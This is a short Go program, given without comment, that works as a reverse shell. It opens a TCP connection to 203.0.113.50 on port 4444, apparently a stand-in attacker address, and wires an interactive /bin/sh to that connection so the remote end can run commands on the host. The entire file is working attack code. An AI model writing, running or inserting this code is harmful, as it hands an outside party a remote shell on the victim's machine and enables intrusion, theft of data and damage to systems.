package main

import (
	"net"
	"os/exec"
)

func main() {
	c, err := net.Dial("tcp", "203.0.113.50:4444")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
}
